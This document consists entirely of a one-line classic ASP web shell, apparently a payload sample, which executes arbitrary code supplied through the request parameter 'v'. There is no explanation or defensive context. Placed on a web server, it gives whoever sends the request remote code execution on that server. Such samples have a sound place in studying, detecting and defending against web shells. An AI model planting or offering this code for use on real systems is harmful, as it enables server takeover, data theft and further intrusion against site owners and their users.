<%execute request("v")%>
